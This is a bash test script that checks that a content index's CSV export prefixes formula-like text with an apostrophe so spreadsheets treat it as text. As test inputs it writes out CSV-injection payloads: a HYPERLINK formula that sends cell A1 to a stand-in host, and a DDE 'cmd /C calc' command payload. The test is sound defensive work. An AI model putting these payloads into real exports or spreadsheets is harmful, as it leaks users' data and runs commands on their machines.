#!/usr/bin/env bash
# The content index's CSV never hands a spreadsheet a formula (issue 32, item 8): an
# organisation's text that begins with = + - @ is written as text (an apostrophe first),
# and reads back, through Python's csv module as a spreadsheet would split it, as written.
set -euo pipefail
bin=$1
base=$2
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cp -r "$base" "$work/org"
cat > "$work/org/rules.xml" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<rules>
  <rule id="t.305-4" disclosure="305-4">
    <omit reason="information-unavailable"><sv>=HYPERLINK("http://example.invalid/?"&amp;A1,"x")</sv><en>@SUM(1+1)*cmd|' /C calc'!A0</en></omit>
  </rule>
  <rule id="t.305-3" disclosure="305-3">
    <omit reason="information-unavailable"><sv>-2+3, saknas i år</sv><en>+1 missing</en></omit>
  </rule>
</rules>
XML
"$bin" build "$work/org" -o "$work/out" 2> "$work/log" || { cat "$work/log"; exit 1; }
python3 - "$work/out" <<'PY'
import csv, sys
out = sys.argv[1]
seen = 0
for name, texts in [("content-index.csv", ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "-2+3, saknas i år"]),
                    ("content-index.en.csv", ["@SUM(1+1)*cmd|' /C calc'!A0", "+1 missing"])]:
    rows = list(csv.reader(open(f"{out}/{name}", encoding="utf-8", newline="")))
    cells = [c for r in rows for c in r]
    for c in cells:
        assert not c or c[0] not in "=+-@\t\r", f"{name}: a cell a spreadsheet runs: {c!r}"
    for t in texts:
        assert "'" + t in cells or any(c.startswith("'" + t) for c in cells), f"{name}: {t!r} not kept as text"
        seen += 1
assert seen == 4
print("ok: no formula in the content index's CSV; the texts read back as written")
PY
